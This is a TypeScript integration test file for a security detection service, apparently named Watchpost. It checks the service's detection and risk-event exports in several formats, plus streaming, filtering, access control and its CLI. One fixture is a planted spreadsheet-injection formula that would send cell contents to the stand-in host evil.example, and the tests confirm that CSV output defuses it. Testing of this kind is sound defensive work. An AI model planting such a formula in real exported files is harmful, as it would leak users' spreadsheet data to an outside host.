import { mkdtemp, readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { riskEventBatches } from '../../src/store/risk-event-export-batches.js'
import { csvObjects, parseCsv } from '../helpers/csv.js'
import { readFixture, SEED_RULE_YAML } from '../helpers/fixtures.js'
import { runCli } from '../helpers/run-cli.js'
import { createTestTenant } from '../helpers/tenant.js'
import { graphql, startTestService, type TestService } from '../helpers/test-service.js'
import { uploadMultipart, waitForUpload } from '../helpers/uploads.js'

// Detection and risk event exports over real HTTP, Postgres, Redis and the worker: the ngrok
// fixture is uploaded, exported in every format and layout, parsed back and compared with what
// the GraphQL queries answer. The service reads 7 rows per query (EXPORT_BATCH_ROWS), so every
// export here crosses batch boundaries; one test adds 2,345 risk events to prove the order holds.

const BATCH = 7
const NGROK_RULE = 'Windows Ngrok Reverse Proxy Usage'
/** A spreadsheet formula an attacker could plant in a field; the CSV must defuse it. */
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"open")`

interface GqlDetection {
  id: string
  rule: { id: string; name: string }
  ruleRevision: number
  status: string
  assignee: string | null
  statusChangedAt: string
  count: number
  firstTime: string
  lastTime: string
  firstSeen: string
  lastSeen: string
  fields: Record<string, string>
  mitre: { id: string }[]
  riskEvents: { object: string; type: string; score: number; message: string; time: string; threatObjects: { value: string; type: string }[] }[]
}

let svc: TestService
let keyA: string
let keyB: string
let ruleId: string
let uploadId: string
let detections: GqlDetection[]

const get = (key: string | null, path: string) => fetch(`${svc.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} })
async function text(key: string, path: string): Promise<string> {
  const res = await get(key, path)
  expect(res.status, await res.clone().text()).toBe(200)
  return res.text()
}

/** What the detections export holds for a detection, built from the GraphQL answer. */
const expectedDetection = (d: GqlDetection) => ({
  id: d.id,
  ruleId: d.rule.id,
  ruleName: d.rule.name,
  ruleRevision: d.ruleRevision,
  status: d.status,
  assignee: d.assignee,
  statusChangedAt: d.statusChangedAt,
  count: d.count,
  firstTime: d.firstTime,
  lastTime: d.lastTime,
  firstSeen: d.firstSeen,
  lastSeen: d.lastSeen,
  mitreTechniques: d.mitre.map((m) => m.id),
  fields: d.fields,
})

async function queryDetections(key: string): Promise<GqlDetection[]> {
  const res = await graphql<{ detections: { edges: { node: GqlDetection }[] } }>(
    svc.url,
    key,
    `{ detections(first: 20) { edges { node { id rule { id name } ruleRevision status assignee statusChangedAt count firstTime lastTime firstSeen lastSeen fields
       mitre { id } riskEvents { object type score message time threatObjects { value type } } } } } }`,
  )
  expect(res.errors).toBeUndefined()
  return res.data!.detections.edges.map((e) => e.node)
}

beforeAll(async () => {
  svc = await startTestService({ env: { EXPORT_BATCH_ROWS: String(BATCH) } })
  keyA = (await createTestTenant(svc.databaseUrl, 'exp-a')).apiKey
  keyB = (await createTestTenant(svc.databaseUrl, 'exp-b')).apiKey
  ruleId = (await graphql<any>(svc.url, keyA, 'mutation ($y: String!) { importRules(yaml: $y) { rules { id } } }', { y: SEED_RULE_YAML })).data.importRules.rules[0].id
  uploadId = (await uploadMultipart(svc.url, keyA, 'ngrok.xml', readFixture('logs/sysmon/ngrok-synthetic.xml'))).data!.uploadLogs.id
  await waitForUpload(svc.url, keyA, uploadId)
  // Triage data that CSV must carry safely: an assignee that reads as a formula, a status change.
  const first = (await queryDetections(keyA))[0]!
  await graphql(svc.url, keyA, 'mutation ($id: ID!, $a: String) { assignDetection(id: $id, assignee: $a) { id } }', { id: first.id, a: FORMULA })
  await graphql(svc.url, keyA, 'mutation ($id: ID!) { setDetectionStatus(id: $id, status: ACKNOWLEDGED) { id } }', { id: first.id })
  detections = await queryDetections(keyA)
})
afterAll(async () => {
  await svc?.close()
})

describe('detections export', () => {
  it('JSON: one array holding exactly what the detections query answers, in its order', async () => {
    const res = await get(keyA, '/v1/exports/detections?format=json')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="watchpost-detections-\d{4}-\d{2}-\d{2}\.json"$/)
    // Streamed: chunked, no length known up front.
    expect(res.headers.get('transfer-encoding')).toBe('chunked')
    expect(res.headers.get('content-length')).toBeNull()
    const exported = JSON.parse(await res.text())
    expect(detections).toHaveLength(4)
    expect(exported).toEqual(detections.map(expectedDetection))
    expect(exported[0].assignee).toBe(FORMULA)
  })

  it('NDJSON: one object per line, the same objects', async () => {
    const body = await text(keyA, '/v1/exports/detections?format=ndjson')
    expect(body.endsWith('\n')).toBe(true)
    expect(body.trimEnd().split('\n').map((l) => JSON.parse(l))).toEqual(detections.map(expectedDetection))
  })

  it('CSV: RFC 4180 with a header, BY fields as columns, formulas defused, the same values', async () => {
    const res = await get(keyA, '/v1/exports/detections?format=csv')
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    const body = await res.text()
    const [header] = parseCsv(body)
    expect(header!.slice(0, 14)).toEqual(['id', 'ruleId', 'ruleName', 'ruleRevision', 'status', 'assignee', 'statusChangedAt', 'count', 'firstTime', 'lastTime', 'firstSeen', 'lastSeen', 'mitreTechniques', 'action'])
    // The planted formula is text in the file: a leading apostrophe, the quotes doubled.
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`)
    const rows = csvObjects(body)
    expect(rows).toEqual(
      detections.map((d) => {
        const e = expectedDetection(d)
        return expect.objectContaining({
          ...Object.fromEntries(Object.entries(e).filter(([k]) => !['fields', 'mitreTechniques'].includes(k)).map(([k, v]) => [k, v === null ? '' : String(v)])),
          mitreTechniques: e.mitreTechniques.join('\n'),
          ...e.fields,
          otherFields: '',
        })
      }),
    )
    // A command line with quotes and backslashes survives the round trip.
    expect(rows.map((r) => r.process)).toContain('"C:\\Users\\alice\\AppData\\Local\\ngrok\\ngrok.exe" config add-authtoken 2dXkQ7rJwZ9bT4mN8vL1pF6sYc3_5hGaKe7UoRi2WnBq')
  })

  it('takes the filters of the detections query', async () => {
    const acknowledged = JSON.parse(await text(keyA, '/v1/exports/detections?status=ACKNOWLEDGED,CLOSED_TRUE_POSITIVE'))
    expect(acknowledged.map((d: { id: string }) => d.id)).toEqual([detections[0]!.id])
    const dave = JSON.parse(await text(keyA, `/v1/exports/detections?user=DAVE&ruleId=${ruleId}&mitreTechnique=t1572`))
    expect(dave.map((d: { fields: { user: string } }) => d.fields.user)).toEqual(['dave'])
    const since = JSON.parse(await text(keyA, '/v1/exports/detections?from=2026-03-15T00:00:00Z'))
    expect(since.map((d: { id: string }) => d.id)).toEqual(detections.filter((d) => d.lastSeen >= '2026-03-15').map((d) => d.id))
    expect(JSON.parse(await text(keyA, '/v1/exports/detections?mitreTechnique=T1059'))).toEqual([])
  })
})

describe('risk events export', () => {
  const fromGraphql = () =>
    detections
      .flatMap((d) => d.riskEvents.map((r) => ({ ...r, detectionId: d.id, ruleId: d.rule.id, ruleName: d.rule.name })))
      .sort((a, b) => a.time.localeCompare(b.time) || a.detectionId.localeCompare(b.detectionId) || a.type.localeCompare(b.type))
  const sortLikeGraphql = <T extends { time: string; detectionId: string; type: string }>(rows: T[]) =>
    [...rows].sort((a, b) => a.time.localeCompare(b.time) || a.detectionId.localeCompare(b.detectionId) || a.type.localeCompare(b.type))

  it('JSON and NDJSON (watchpost layout): every risk event of every detection, oldest first', async () => {
    const exported = JSON.parse(await text(keyA, '/v1/exports/risk-events?format=json'))
    expect(exported).toHaveLength(8)
    expect(exported.map((r: { time: string }) => r.time)).toEqual([...exported.map((r: { time: string }) => r.time)].sort())
    const comparable = exported.map((r: any) => ({ object: r.object, type: r.type, score: r.score, message: r.message, time: r.time, threatObjects: r.threatObjects, detectionId: r.detectionId, ruleId: r.ruleId, ruleName: r.ruleName }))
    expect(sortLikeGraphql(comparable)).toEqual(fromGraphql())
    expect(exported.every((r: any) => r.uploadId === uploadId && r.ruleRevision === 1 && /^\d+$/.test(r.id))).toBe(true)
    expect(exported[0].mitreTechniques).toEqual(['T1572', 'T1090', 'T1102'])
    const ndjson = (await text(keyA, '/v1/exports/risk-events?format=ndjson')).trimEnd().split('\n').map((l) => JSON.parse(l))
    expect(ndjson).toEqual(exported)
  })

  it('CSV (watchpost layout): threat objects as two parallel list cells', async () => {
    const rows = csvObjects(await text(keyA, '/v1/exports/risk-events?format=csv'))
    const json = JSON.parse(await text(keyA, '/v1/exports/risk-events?format=json'))
    expect(rows).toEqual(
      json.map((r: any) => ({
        id: r.id, time: r.time, object: r.object, type: r.type, score: String(r.score), message: r.message,
        threatObjects: r.threatObjects.map((t: any) => t.value).join('\n'), threatObjectTypes: r.threatObjects.map((t: any) => t.type).join('\n'),
        mitreTechniques: r.mitreTechniques.join('\n'), detectionId: r.detectionId, ruleId: r.ruleId, ruleName: r.ruleName, ruleRevision: String(r.ruleRevision), uploadId: r.uploadId,
      })),
    )
    expect(rows[0]!.threatObjectTypes).toBe('parent_process_name\nprocess_name')
  })

  it('splunk-risk layout: the fields ES writes to index=risk, _time in epoch seconds', async () => {
    const res = await get(keyA, '/v1/exports/risk-events?format=ndjson&layout=splunk-risk')
    expect(res.headers.get('content-disposition')).toMatch(/filename="watchpost-risk-events-splunk-\d{4}-\d{2}-\d{2}\.ndjson"/)
    const events = (await res.text()).trimEnd().split('\n').map((l) => JSON.parse(l))
    const watchpost = JSON.parse(await text(keyA, '/v1/exports/risk-events?format=json'))
    expect(events).toHaveLength(8)
    const dave = events.findIndex((e) => e.risk_object === 'dave')
    expect(events[dave]).toEqual({
      _time: Date.parse(watchpost[dave].time) / 1000,
      risk_object: 'dave',
      risk_object_type: 'user',
      risk_score: 20,
      risk_message: 'A reverse proxy was identified spawning from powershell.exe -  ngrok.exe on endpoint WS-DEV04.corp.example.com by user dave.',
      threat_object: ['powershell.exe', 'ngrok.exe'],
      threat_object_type: ['parent_process_name', 'process_name'],
      search_name: `ESCU - ${NGROK_RULE} - Rule`,
      source: `ESCU - ${NGROK_RULE} - Rule`,
      'annotations.mitre_attack': ['T1572', 'T1090', 'T1102'],
      'annotations.mitre_attack.mitre_technique_id': ['T1572', 'T1090', 'T1102'],
      'annotations.mitre_attack.mitre_technique': ['Protocol Tunneling', 'Proxy', 'Web Service'],
      'annotations.mitre_attack.mitre_tactic_id': ['TA0011'],
      'annotations.mitre_attack.mitre_tactic': ['command-and-control'],
      analyticstories: ['Reverse Network Proxy', 'CISA AA22-320A', 'CISA AA24-241A'],
    })
    // Same events, same order as the watchpost layout.
    expect(events.map((e) => [e._time * 1000, e.risk_object, e.risk_object_type])).toEqual(watchpost.map((r: any) => [Date.parse(r.time), r.object, r.type]))
    const csv = csvObjects(await text(keyA, '/v1/exports/risk-events?format=csv&layout=splunk-risk'))
    expect(csv[dave]).toMatchObject({ _time: String(events[dave]._time), risk_object: 'dave', threat_object: 'powershell.exe\nngrok.exe', 'annotations.mitre_attack.mitre_tactic_id': 'TA0011' })
  })

  it('filters by rule, risk object, type and time', async () => {
    const users = JSON.parse(await text(keyA, `/v1/exports/risk-events?type=user&ruleId=${ruleId}`))
    expect(users.map((r: any) => r.object).sort()).toEqual(['alice', 'alice', 'dave', 'svc_tunnel'])
    expect(JSON.parse(await text(keyA, '/v1/exports/risk-events?object=ALICE')).map((r: any) => r.object)).toEqual(['alice', 'alice'])
    const window = JSON.parse(await text(keyA, '/v1/exports/risk-events?from=2026-03-15T00:00:00Z&to=2026-03-15T23:59:59Z'))
    expect(window.map((r: any) => r.object).sort()).toEqual(['SRV-APP03.corp.example.com', 'svc_tunnel'])
  })
})

describe('streaming', () => {
  const MANY = 2345

  it('returns every one of many rows, once, in order, reading a batch at a time', async () => {
    const db = new pg.Pool({ connectionString: svc.databaseUrl, max: 2 })
    try {
      const { rows } = await db.query<{ detection_id: string; tenant_id: string }>('SELECT detection_id, tenant_id FROM risk_events LIMIT 1')
      // Three events share each timestamp, so the order needs the id to break ties across batches.
      await db.query(
        `INSERT INTO risk_events (tenant_id, detection_id, upload_id, rule_id, risk_object, risk_object_type, risk_score, risk_message, threat_objects, mitre_techniques, time)
         SELECT $1, $2, $3, $4, 'host-' || n, 'system', 1, 'bulk ' || n, '[]', '{T1572}', timestamptz '2026-04-01T00:00:00Z' + (n / 3) * interval '1 second'
         FROM generate_series(1, $5::int) AS n`,
        [rows[0]!.tenant_id, rows[0]!.detection_id, uploadId, ruleId, MANY],
      )
      const res = await get(keyA, '/v1/exports/risk-events?format=ndjson&from=2026-04-01T00:00:00Z')
      expect(res.headers.get('transfer-encoding')).toBe('chunked')
      const objects = (await res.text()).trimEnd().split('\n').map((l) => JSON.parse(l).object)
      // Every row once, in the order (time, id) — ids break the ties, wherever a batch ends.
      const truth = await db.query<{ risk_object: string }>("SELECT risk_object FROM risk_events WHERE risk_message LIKE 'bulk %' ORDER BY time, id")
      expect(objects).toEqual(truth.rows.map((r) => r.risk_object))
      expect(new Set(objects)).toEqual(new Set(Array.from({ length: MANY }, (_, i) => `host-${i + 1}`)))

      // The reader behind it: one query per batch of BATCH rows, never more in hand.
      const sizes: number[] = []
      for await (const batch of riskEventBatches(db, { tenantId: rows[0]!.tenant_id, from: new Date('2026-04-01T00:00:00Z') }, BATCH)) sizes.push(batch.length)
      expect(sizes).toHaveLength(Math.ceil(MANY / BATCH))
      expect(Math.max(...sizes)).toBe(BATCH)
      expect(sizes.reduce((a, b) => a + b, 0)).toBe(MANY)
    } finally {
      await db.query("DELETE FROM risk_events WHERE risk_message LIKE 'bulk %'")
      await db.end()
    }
  })
})

describe('refusals and isolation', () => {
  it.each([
    ['/v1/exports/detections?format=xlsx', 400, 'BAD_USER_INPUT', '"format" must be one of csv, json, ndjson (got "xlsx")'],
    ['/v1/exports/risk-events?layout=elastic', 400, 'BAD_USER_INPUT', '"layout" must be one of watchpost, splunk-risk (got "elastic")'],
    ['/v1/exports/detections?statuz=NEW', 400, 'BAD_USER_INPUT', 'unknown parameter "statuz"; this export takes format, ruleId, mitreTechnique, dest, user, from, to, status, assignee, assigned'],
    ['/v1/exports/risk-events?from=last%20week', 400, 'BAD_USER_INPUT', '"from" must be an ISO-8601 date or date-time, e.g. 2026-03-10T12:00:00Z (got "last week")'],
    ['/v1/exports/detections?ruleId=00000000-0000-4000-8000-000000000001', 404, 'NOT_FOUND', 'Rule 00000000-0000-4000-8000-000000000001 not found'],
    ['/v1/exports/attack-layer?format=csv', 400, 'BAD_USER_INPUT', 'unknown parameter "format"; this export takes no parameters'],
  ])('%s → %i %s', async (path, status, code, message) => {
    const res = await get(keyA, path)
    expect(res.status).toBe(status)
    expect(res.headers.get('content-disposition')).toBeNull()
    expect(((await res.json()) as { error: unknown }).error).toMatchObject({ code, message })
  })

  it('needs a key that may read', async () => {
    expect((await get(null, '/v1/exports/detections')).status).toBe(401)
    const ingest = (await graphql<any>(svc.url, keyA, 'mutation { createApiKey(name: "shipper", role: ingest) { key } }')).data.createApiKey.key
    const refused = await get(ingest, '/v1/exports/risk-events')
    expect(refused.status).toBe(403)
    expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('FORBIDDEN')
    const reader = (await graphql<any>(svc.url, keyA, 'mutation { createApiKey(name: "auditor", role: reader) { key } }')).data.createApiKey.key
    expect(JSON.parse(await text(reader, '/v1/exports/detections'))).toHaveLength(4)
  })

  it("exports only the caller's tenant", async () => {
    for (const path of ['/v1/exports/detections?format=csv', '/v1/exports/risk-events?format=ndjson&layout=splunk-risk', '/v1/exports/risk-events?format=json']) {
      const body = await text(keyB, path)
      for (const id of [ruleId, uploadId, ...detections.map((d) => d.id)]) expect(body).not.toContain(id)
      expect(body).not.toContain('ngrok')
    }
    expect(await text(keyB, '/v1/exports/detections')).toBe('[]\n')
    expect(parseCsv(await text(keyB, '/v1/exports/risk-events?format=csv'))).toHaveLength(1)
    const aimed = await get(keyB, `/v1/exports/risk-events?ruleId=${ruleId}`)
    expect(aimed.status).toBe(404)
  })
})

describe('watchpost export (CLI)', () => {
  const env = () => ({ DATABASE_URL: svc.databaseUrl, EXPORT_BATCH_ROWS: '3' })

  it('writes the same file as the HTTP export, to --out or standard output', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'wp-export-'))
    const out = join(dir, 'detections.csv')
    const written = await runCli(['export', 'detections', '--tenant', 'exp-a', '--format', 'csv', '--out', out], { env: env() })
    expect(written.stderr).toBe('')
    expect(written.code).toBe(0)
    expect(await readFile(out, 'utf8')).toBe(await text(keyA, '/v1/exports/detections?format=csv'))
    const printed = await runCli(['export', 'risk-events', '--tenant', 'exp-a', '--format', 'ndjson', '--layout', 'splunk-risk', '--type', 'system'], { env: env() })
    expect(printed.code).toBe(0)
    expect(printed.stdout).toBe(await text(keyA, '/v1/exports/risk-events?format=ndjson&layout=splunk-risk&type=system'))
    expect(printed.stdout.trimEnd().split('\n')).toHaveLength(4)
  })

  it('exports the ATT&CK Navigator layer of the tenant', async () => {
    const { code, stdout } = await runCli(['export', 'attack-layer', '--tenant', 'exp-a'], { env: env() })
    expect(code).toBe(0)
    const layer = JSON.parse(stdout)
    expect(layer.name).toBe('Watchpost coverage: exp-a')
    expect(layer.techniques.map((t: any) => `${t.techniqueID}@${t.tactic}:${t.score}`)).toEqual(['T1090@command-and-control:1', 'T1102@command-and-control:1', 'T1572@command-and-control:1'])
  })

  it('explains bad options by name with exit status 2, and an unknown tenant with 1', async () => {
    const bad = await runCli(['export', 'detections', '--tenant', 'exp-a', '--format', 'xml'], { env: env() })
    expect(bad.code).toBe(2)
    expect(bad.stderr).toBe('watchpost: --format: "format" must be one of csv, json, ndjson (got "xml")\n')
    expect((await runCli(['export', 'detections'], { env: env() })).code).toBe(2)
    expect((await runCli(['export', 'risk-events', '--tenant', 'exp-a', '--status', 'NEW'], { env: env() })).stderr).toContain('unknown parameter "status"')
    const unknown = await runCli(['export', 'detections', '--tenant', 'nobody'], { env: env() })
    expect(unknown.code).toBe(1)
    expect(unknown.stderr).toBe('watchpost: no tenant named "nobody"\n')
  })
})
